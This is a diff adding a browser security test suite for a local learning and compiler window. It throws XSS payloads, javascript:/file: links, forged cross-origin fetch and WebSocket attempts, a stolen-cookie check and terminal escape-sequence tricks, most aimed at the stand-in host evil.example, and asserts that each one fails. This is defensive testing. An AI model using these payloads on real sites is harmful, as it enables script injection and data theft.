@@ -1,0 +1,573 @@
+// Attacks on the window in real Chromium: by pages of other sites and ports, by text that others wrote (a lab, a pipeline,
+// the output of a program), and by whatever would run, load or go somewhere inside the page.
+import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Locator, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { WebSocket } from 'ws';
+import { attacks } from '../support/attacks-on-graphs.ts';
+import { openWindow, type OpenWindow } from '../support/window.ts';
+import { dragFiles, eventually, typeAndCompile } from '../support/window-actions.ts';
+
+const LAB = `---
+id: hostile
+title: A <b>hostile</b> lab <img src=x onerror="globalThis.hacked='title'">
+minutes: 5
+level: 24
+goals: ["<script>globalThis.hacked='goal'</script>"]
+concepts: [node]
+---
+
+## Links <script>globalThis.hacked='heading'</script> {#links}
+
+<script>globalThis.hacked = 'script'</script>
+<img src="x" onerror="globalThis.hacked = 'image'">
+<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
+<svg onload="globalThis.hacked = 'svg'"><a href="javascript:globalThis.hacked='svg-link'">svg</a></svg>
+<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">
+<form action="http://evil.example/"><button>send</button></form>
+<style>body { display: none }</style>
+
+<javascript:globalThis.hacked='auto'> <data:text/html,x> <file:///etc/passwd> <vbscript:x> <JaVaScRiPt:x> <blob:x>
+[one][a] [two][b] [three][c] [four][d] [five][e] [six][f] [seven][g] [eight][h] ![nine][a] ![ten][i] ![eleven][k]
+Out: <https://example.org/page> <mailto:ada@example.org> and [here](#links)
+
+[a]: javascript:globalThis.hacked='reference'
+[b]: data:text/html,<script>alert(1)</script> "title"
+[c]: file:///etc/passwd
+[d]: ../../secret
+[e]: //evil.example/x
+[f]: /open?ticket=x
+[g]: ?present=1
+[h]: http://evil.example@127.0.0.1/
+[i]: http://evil.example/pixel.png
+[k]: data:image/svg+xml,<svg/onload=alert(1)>
+
+$\\href{javascript:globalThis.hacked='math'}{x} \\color{red}{y} \\includegraphics{http://evil.example/pixel.png}$
+
+| a | b |
+| :-: | --: |
+| \`</code><script>globalThis.hacked='code'</script>\` | 2 |
+
+\`\`\`simple"><script>globalThis.hacked='fence'</script>
+return 1;
+\`\`\`
+
+\`\`\`task
+id: a-task
+title: Task <img src=x onerror="globalThis.hacked='task'">
+check:
+  kind: returns
+  cases:
+    - { arg: 0, result: 1 }
+hints:
+  - "Hint <img src=x onerror=\\"globalThis.hacked='hint'\\"> [link](javascript:globalThis.hacked='hint-link')"
+  - "Hint <javascript:globalThis.hacked='hint-link'>"
+\`\`\`
+`;
+
+let window: OpenWindow;
+let other: Server;
+let otherPort = 0;
+let folder = '';
+/** What the other server was sent. */
+const cookiesSeen: string[] = [];
+const page = (): Page => window.page;
+const TERMINAL = '[data-testid=terminal]';
+async function focusShell(): Promise<void> {
+  await page().getByTestId('terminal-tab').click();
+  await page().locator(`${TERMINAL} .xterm-helper-textarea`).focus();
+}
+const hacked = (of = page()): Promise<unknown> =>
+  of.evaluate(() => (globalThis as { hacked?: unknown }).hacked ?? null);
+const panes = [
+  'cfg',
+  'assembly',
+  'registers',
+  'machine',
+  'rules',
+  'analysis',
+  'semantics',
+  'ssa',
+  'pipeline',
+];
+async function showAllPanes(): Promise<void> {
+  for (const pane of [...panes, 'graph']) {
+    await page().getByTestId(`tab-${pane}`).click();
+    await eventually(
+      () => page().getByTestId(`tab-${pane}`).getAttribute('aria-selected'),
+      (selected) => selected === 'true',
+    );
+  }
+}
+const address = (): string => `http://127.0.0.1:${window.server.port}/`;
+
+beforeAll(async () => {
+  folder = mkdtempSync(join(tmpdir(), 'fathom-attacks-'));
+  mkdirSync(join(folder, 'course', '01-hostile', 'files'), { recursive: true });
+  writeFileSync(join(folder, 'course', '01-hostile', 'lab.md'), LAB);
+  writeFileSync(join(folder, 'course', '01-hostile', 'files', 'links.simple'), 'return 1;\n');
+  for (const file of ['course.yaml', 'glossary.en.yaml', 'references.yaml'])
+    cpSync(new URL(`../../labs/course/${file}`, import.meta.url), join(folder, 'course', file));
+  other = createServer((request, response) => {
+    cookiesSeen.push(request.headers.cookie ?? '');
+    response.writeHead(200, { 'Content-Type': 'text/html' }).end('<!doctype html><title>other</title>');
+  });
+  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
+  otherPort = (other.address() as { port: number }).port;
+  window = await openWindow({
+    courses: join(folder, 'course'),
+    hosts: 'MAP evil.example 127.0.0.1, MAP example.org ~NOTFOUND',
+  });
+});
+afterAll(async () => {
+  await window.close();
+  other.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+describe('a page of another site', () => {
+  /** What a page at that address can do to the window's server. */
+  async function attempts(from: string): Promise<Record<string, string>> {
+    const evil = await window.context.newPage();
+    await evil.goto(from);
+    const found = await evil.evaluate(async (target) => {
+      const outcome = (promise: Promise<unknown>): Promise<string> =>
+        Promise.race([
+          promise.then(
+            (value) => `got ${String(value)}`,
+            () => 'nothing',
+          ),
+          new Promise<string>((resolve) => setTimeout(() => resolve('nothing'), 1500)),
+        ]);
+      const element = (
+        name: 'script' | 'img' | 'link',
+        attributes: Record<string, string>,
+      ): Promise<string> =>
+        outcome(
+          new Promise((resolve, reject) => {
+            const made = Object.assign(document.createElement(name), attributes);
+            made.addEventListener('load', () => resolve('it'));
+            made.addEventListener('error', () => reject(new Error()));
+            document.head.append(made);
+          }),
+        );
+      const frame = async (): Promise<string> => {
+        const made = document.createElement('iframe');
+        made.src = target;
+        document.body.append(made);
+        await new Promise((resolve) => made.addEventListener('load', resolve));
+        return made.contentDocument === null ? 'nothing' : `got ${made.contentDocument.title}`;
+      };
+      const opened = async (): Promise<string> => {
+        const made = globalThis.open(target);
+        await new Promise((resolve) => setTimeout(resolve, 500));
+        try {
+          return `got ${made?.document.title ?? ''}`;
+        } catch {
+          return 'nothing';
+        } finally {
+          made?.close();
+        }
+      };
+      const socket = (): Promise<string> =>
+        outcome(
+          new Promise((resolve, reject) => {
+            const made = new WebSocket(`${target.replace('http', 'ws')}socket`, [
+              'fathom',
+              'key.x',
+              'window.x',
+            ]);
+            made.onopen = () => resolve('it');
+            made.onerror = () => reject(new Error());
+          }),
+        );
+      const fetched = (mode: RequestMode, credentials: RequestCredentials): Promise<string> =>
+        outcome(fetch(target, { mode, credentials }).then((response) => response.text() || Promise.reject()));
+      return {
+        cors: await fetched('cors', 'include'),
+        'no-cors': await fetched('no-cors', 'include'),
+        post: await outcome(fetch(target, { method: 'POST', body: 'x' }).then((r) => r.text())),
+        script: await element('script', { src: `${target}icon.svg` }),
+        picture: await element('img', { src: `${target}icon.svg` }),
+        style: await element('link', { rel: 'stylesheet', href: target }),
+        frame: await frame(),
+        opened: await opened(),
+        socket: await socket(),
+      };
+    }, address());
+    // What it opened is cut off from it, so that it cannot close it either.
+    for (const left of window.context.pages()) if (left !== page()) await left.close();
+    return found;
+  }
+  const nothing = {
+    cors: 'nothing',
+    'no-cors': 'nothing',
+    post: 'nothing',
+    script: 'nothing',
+    picture: 'nothing',
+    style: 'nothing',
+    frame: 'nothing',
+    opened: 'nothing',
+    socket: 'nothing',
+  };
+
+  it('gets nothing of it', async () => {
+    expect(await attempts(`http://evil.example:${otherPort}/`)).toEqual(nothing);
+  });
+
+  it('gets nothing from another port of this machine, though cookies go there, too', async () => {
+    cookiesSeen.length = 0;
+    expect(await attempts(`http://127.0.0.1:${otherPort}/`)).toEqual(nothing);
+    const stolen = cookiesSeen.find((cookie) => cookie.includes('fathom-')) ?? '';
+    expect(stolen).toContain(`fathom-${window.server.port}=`);
+    // The stolen cookie alone opens no services.
+    const socket = new WebSocket(`ws://127.0.0.1:${window.server.port}/socket`, ['fathom', 'window.x'], {
+      headers: { Cookie: stolen, Origin: address().slice(0, -1) },
+    });
+    const outcome = await new Promise((resolve) => {
+      socket.once('open', () => resolve('open'));
+      socket.once('error', () => resolve('refused'));
+    });
+    expect(outcome).toBe('refused');
+  });
+
+  it('gets nothing under a name that was made to point here', async () => {
+    const rebound = await window.context.newPage();
+    const response = await rebound.goto(`http://evil.example:${window.server.port}/`);
+    expect(response?.status()).toBe(403);
+    expect(await rebound.locator('body').innerText()).toContain('only on this machine');
+    await rebound.close();
+  });
+
+  it('cannot show the window in a frame, nor reach the one it opens', async () => {
+    const evil = await window.context.newPage();
+    await evil.goto(`http://127.0.0.1:${otherPort}/`);
+    const opening = window.context.waitForEvent('page');
+    await evil.evaluate((target) => void globalThis.open(target), address());
+    const opened = await opening;
+    await opened.waitForLoadState();
+    expect(await opened.evaluate(() => globalThis.opener as unknown)).toBe(null);
+    expect(await opened.getByTestId('editor').count()).toBe(0);
+    await opened.close();
+    await evil.close();
+  });
+});
+
+describe('inside the page', () => {
+  it('nothing runs or loads but what belongs to the window', async () => {
+    const tab = await window.context.newPage();
+    await tab.goto(address());
+    await tab.getByTestId('editor').waitFor();
+    const violated = await tab.evaluate(async () => {
+      const found = new Set<string>();
+      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        found.add(effectiveDirective),
+      );
+      const add = (html: string): void => {
+        const made = document.createElement('div');
+        made.innerHTML = html;
+        document.body.append(made);
+        setTimeout(() => made.remove(), 400);
+      };
+      const script = document.createElement('script');
+      script.textContent = "globalThis.hacked = 'inline'";
+      document.body.append(script);
+      add(`<img src="x" onerror="globalThis.hacked = 'handler'">`);
+      add(`<img src="http://evil.example/pixel.png">`);
+      add(`<iframe src="/"></iframe><object data="/icon.svg"></object>`);
+      add(
+        `<p style="position: fixed" id="attribute">x</p><style>#element { position: fixed }</style><p id="element">x</p>`,
+      );
+      add(`<base href="http://evil.example/">`);
+      const form = document.createElement('form');
+      form.action = '/submitted';
+      document.body.append(form);
+      form.submit();
+      const outside = document.createElement('script');
+      outside.src = 'http://evil.example/script.js';
+      document.body.append(outside);
+      const tries: (() => unknown)[] = [
+        () => (0, eval)("globalThis.hacked = 'eval'"),
+        () => new Function("globalThis.hacked = 'function'")(),
+        () => setTimeout("globalThis.hacked = 'timeout'"),
+        () => new Worker('data:text/javascript,'),
+        () => new Worker(URL.createObjectURL(new Blob(['']))),
+        () => new WebSocket('ws://evil.example/'),
+        () => navigator.sendBeacon('http://evil.example/', 'x'),
+      ];
+      // As the page's own: what a test itself evaluates, no policy holds. Some throw, all are reported.
+      for (const attempt of tries) setTimeout(() => void new Promise(() => attempt()).catch(() => undefined));
+      await fetch('http://evil.example/').catch(() => undefined);
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      for (const id of ['attribute', 'element']) {
+        const { position } = getComputedStyle(document.getElementById(id) ?? document.body);
+        if (position === 'fixed') found.add(`${id} was styled`);
+      }
+      return [...found].sort();
+    });
+    expect(violated).toEqual([
+      'base-uri',
+      'connect-src',
+      'form-action',
+      'frame-src',
+      'img-src',
+      'object-src',
+      'script-src',
+      'script-src-attr',
+      'script-src-elem',
+      'style-src-attr',
+      'style-src-elem',
+      'worker-src',
+    ]);
+    expect(await hacked(tab)).toBe(null);
+    expect(tab.url()).toBe(address());
+    await tab.close();
+  });
+
+  it('editor, terminal and drawings have their styles all the same', async () => {
+    await typeAndCompile(page(), 'int x = arg * 2; return x;');
+    const style = (selector: string, property: string): Promise<string> =>
+      page()
+        .locator(selector)
+        .first()
+        .evaluate((element, name) => getComputedStyle(element).getPropertyValue(name), property);
+    expect(await style('.cm-scroller', 'display')).toBe('flex');
+    await focusShell();
+    await page().keyboard.type(`printf '\\033[38;2;1;2;3mcoloured\\033[0m \\033[31mred\\033[0m\\n'`);
+    await page().keyboard.press('Enter');
+    const coloured = page().locator(`${TERMINAL} .xterm-rows span`, { hasText: 'coloured' }).last();
+    await eventually(
+      () => coloured.evaluate((element) => getComputedStyle(element).color).catch(() => ''),
+      (colour) => colour === 'rgb(1, 2, 3)',
+    );
+    expect(await style(`${TERMINAL} .xterm-rows span.xterm-fg-1`, 'color')).toMatch(/^rgb\((?!0, 0, 0)/);
+    await showAllPanes();
+    expect(window.complaints).toEqual([]);
+  });
+
+  it('a link or an address that is dropped is not gone to', async () => {
+    const prevented = await page().evaluate(() =>
+      ['.graphview', '[data-testid="guide"]', 'header', '.xterm-rows'].map((selector) => {
+        const dataTransfer = new DataTransfer();
+        dataTransfer.setData('text/uri-list', 'http://evil.example/');
+        const event = new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true });
+        document.querySelector(selector)?.dispatchEvent(event);
+        return event.defaultPrevented;
+      }),
+    );
+    expect(prevented).toEqual([true, true, true, true]);
+  });
+});
+
+describe('a lab that somebody else wrote', () => {
+  const guide = page;
+
+  it('is shown as text: nothing of it runs, styles, or loads', async () => {
+    const text = (): Promise<string> => guide().getByTestId('guide').innerText();
+    // The course has a page of its own, from which its labs are opened.
+    if (!(await text()).includes('eleven'))
+      await guide().getByTestId('guide').getByText('hostile').first().click();
+    await eventually(text, (all) => all.includes('eleven'));
+    for (const name of ['hint', 'Hint']) {
+      const button = guide().getByTestId('guide').getByRole('button', { name }).first();
+      if (await button.isVisible().catch(() => false)) await button.click();
+    }
+    expect(
+      await guide()
+        .getByTestId('guide')
+        .locator('script, iframe, img, svg a, form, base, meta, style')
+        .count(),
+    ).toBe(0);
+    expect(await hacked()).toBe(null);
+    expect(window.complaints).toEqual([]);
+  });
+
+  it('has no link that takes the page away or runs anything; one to the web opens beside it', async () => {
+    const links = guide().getByTestId('guide').locator('a[href]');
+    const hrefs = await links.evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
+    expect(new Set(hrefs)).toEqual(new Set(['https://example.org/page', 'mailto:ada@example.org', '#links']));
+    for (const button of ['left', 'middle'] as const)
+      await guide().getByTestId('guide').locator('a[href="#links"]').first().click({ button });
+    expect(page().url()).toBe(address());
+    expect(window.context.pages()).toHaveLength(1);
+    const opening = window.context.waitForEvent('page');
+    await guide().getByTestId('guide').locator('a[href="https://example.org/page"]').first().click();
+    const opened = await opening;
+    expect(await opened.evaluate(() => globalThis.opener as unknown)).toBe(null);
+    await opened.close();
+    expect(page().url()).toBe(address());
+    expect(await hacked()).toBe(null);
+  });
+});
+
+describe('a file that is dropped', () => {
+  const nasty = `<img/src=x/onerror="globalThis.hacked='pipeline'">`;
+  const node = (
+    opcode: string,
+    control: readonly number[],
+    inputs: readonly number[],
+    literal: string,
+  ): object => ({
+    opcode,
+    control,
+    inputs,
+    literals: [literal],
+  });
+  /** Well-formed, but what is in it. */
+  const pipeline = JSON.stringify({
+    nodes: [
+      node('start', [], [], nasty),
+      node(nasty, [], [], nasty),
+      node('__proto__', [], [1], 'constructor'),
+      node('</script><script>globalThis.hacked=1</script>', [0], [2], nasty),
+      node('exit', [3], [], '\u202e\u0000\u001b[2J'),
+    ],
+  });
+  const editorText = (): Promise<string> => page().getByTestId('editor').innerText();
+
+  it('shows as text what is in names, opcodes and literals, in every pane', async () => {
+    await dragFiles(page(), [{ name: `${nasty} onload=x.json`, content: pipeline }], 'dragenter', 'drop');
+    await eventually(editorText, (text) => text.includes('<img/src=x'));
+    await showAllPanes();
+    await page().getByTestId('tab-pipeline').click();
+    for (const part of ['pipeline-lines', 'pipeline-not-runnable'])
+      await eventually(
+        () => page().getByTestId(part).first().innerText(),
+        (text) => text.includes('<img/src=x'),
+      );
+    await page().getByTestId('problems-tab').click();
+    await eventually(
+      () => page().getByTestId('problems').innerText(),
+      (text) => text.includes('<img/src=x'),
+    );
+    expect(await page().locator('main img, main iframe, main script, body > script').count()).toBe(0);
+    expect(await hacked()).toBe(null);
+    expect(window.complaints).toEqual([]);
+  });
+
+  it('is not run where it would read or write anywhere, or call anything', async () => {
+    const refused = attacks.flatMap(({ name, text, refused: why }) =>
+      why === undefined ? [] : { name, text, why },
+    );
+    for (const { name, text, why } of refused.filter((_, i) => i % 8 === 0)) {
+      await dragFiles(page(), [{ name: `${name}.pipeline`, content: text }], 'dragenter', 'drop');
+      await eventually(
+        () => page().getByTestId('program-name').innerText(),
+        (shown) => shown === `${name}.pipeline`,
+      );
+      await page().getByTestId('problems-tab').click();
+      await eventually(
+        () => page().getByTestId('problems').innerText(),
+        (told) => why.test(told),
+      );
+      await page().getByTestId('run').click();
+      expect(await page().getByTestId('result').innerText()).not.toContain('→');
+    }
+  });
+
+  it('runs nothing in the page where it is a program', async () => {
+    const program = `// ${nasty} </script><script>globalThis.hacked='comment'</script>\nreturn 1;`;
+    await dragFiles(page(), [{ name: 'a.simple', content: program }], 'dragenter', 'drop');
+    await eventually(
+      () => page().getByTestId('timeline').getAttribute('data-program'),
+      (text) => text === program.slice(0, 200),
+    );
+    expect(await page().locator('main img').count()).toBe(0);
+    expect(await hacked()).toBe(null);
+  });
+});
+
+/** Presses the mouse on a place of a terminal's line, a person's way: the link is looked for when the pointer comes. */
+async function pressOn(terminal: string, text: string, column: number): Promise<void> {
+  const row = page().locator(`${terminal} .xterm-rows > div`, { hasText: text }).last();
+  const box = await row.boundingBox();
+  if (box === null) throw new Error(`${text} is not there`);
+  const cell = await page()
+    .locator(`${terminal} .xterm-screen`)
+    .evaluate((screen) => {
+      const probe = document.createElement('span');
+      probe.textContent = 'm'.repeat(100);
+      probe.style.cssText = 'position: absolute; visibility: hidden';
+      screen.querySelector('.xterm-rows')?.append(probe);
+      const { width } = probe.getBoundingClientRect();
+      probe.remove();
+      return width / 100;
+    });
+  const [x, y] = [box.x + (column + 0.5) * cell, box.y + box.height / 2];
+  // Links are looked for one line at a time, when the pointer comes to it.
+  await page().mouse.move(x, box.y - box.height);
+  await page().mouse.move(x, y, { steps: 3 });
+  await page().evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
+  await page().mouse.click(x, y);
+}
+
+describe('what is put out in a terminal', () => {
+  const question = (): Locator => page().getByTestId('link-question');
+  const asked = (): Promise<string> => page().getByTestId('link-address').innerText();
+  /** The question is of another link: the one that was pressed on before asked nothing. */
+  async function refuse(): Promise<void> {
+    await page().keyboard.press('Escape');
+    await question().waitFor({ state: 'detached' });
+  }
+
+  it('opens no address that a person did not see', async () => {
+    await focusShell();
+    const link = (target: string, text: string): string =>
+      `\\033]8;;${target}\\033\\\\${text}\\033]8;;\\033\\\\\\n`;
+    const lines = [
+      link('javascript:globalThis.hacked=1', 'harmless-one'),
+      link('file:///etc/passwd', 'harmless-two'),
+      link('https://evil.example/real', 'https://school.example/shown'),
+      '\\033]52;c;aGFja2Vk\\007\\033]0;title\\007plain https://example.org/plain end\\n',
+    ];
+    await page().keyboard.type(`clear; printf '${lines.join('')}'`);
+    await page().keyboard.press('Enter');
+    await eventually(
+      () => page().locator(`${TERMINAL} .xterm-rows`).innerText(),
+      (text) => /^plain https:\/\/example\.org\/plain end/m.test(text),
+    );
+    await pressOn(TERMINAL, 'harmless-one', 3);
+    await pressOn(TERMINAL, 'harmless-two', 3);
+    expect(await question().count()).toBe(0);
+    await pressOn(TERMINAL, 'https://school', 12);
+    expect(await asked()).toBe('https://evil.example/real');
+    await refuse();
+    await pressOn(TERMINAL, 'plain https', 12);
+    expect(await asked()).toBe('https://example.org/plain');
+    const opening = window.context.waitForEvent('page');
+    await page().getByTestId('link-open').click();
+    const opened = await opening;
+    expect(await opened.evaluate(() => globalThis.opener as unknown)).toBe(null);
+    await opened.close();
+    expect(page().url()).toBe(address());
+    expect(await page().title()).not.toBe('title');
+    expect(await hacked()).toBe(null);
+  });
+
+  it('by a program that is run steers nothing: its sequences are text, its links are asked about', async () => {
+    const RUN = '[data-testid=run-output]';
+    const title = await page().title();
+    const sequences = [
+      '\\x1b]0;title\\x07',
+      '\\x1b]52;c;aGFja2Vk\\x07',
+      '\\x1b]8;;https://evil.example/real\\x1b\\\\hidden\\x1b]8;;\\x1b\\\\',
+      '\\x1b[c\\x1b[6n\\x05\\x9b6n',
+      '\\x1b[2J\\x1b[3J\\x1bc',
+    ];
+    const prints = sequences.map((each) => `sys.io.p("${each}\\n");`).join('\n');
+    await typeAndCompile(page(), `${prints}\nsys.io.p("see https://evil.example/seen now\\n");\nreturn arg;`);
+    await page().getByTestId('run').click();
+    const text = (): Promise<string> => page().locator(`${RUN} .xterm-rows`).innerText();
+    await eventually(text, (all) => /^see https/m.test(all) && all.includes('hidden'));
+    await eventually(text, (all) => all.includes(']8;;https://evil.example/real') && all.includes('[2J'));
+    await pressOn(RUN, 'see https', 10);
+    expect(await asked()).toBe('https://evil.example/seen');
+    await refuse();
+    expect(await page().title()).toBe(title);
+    expect(await hacked()).toBe(null);
+    expect(window.complaints).toEqual([]);
+  });
+});
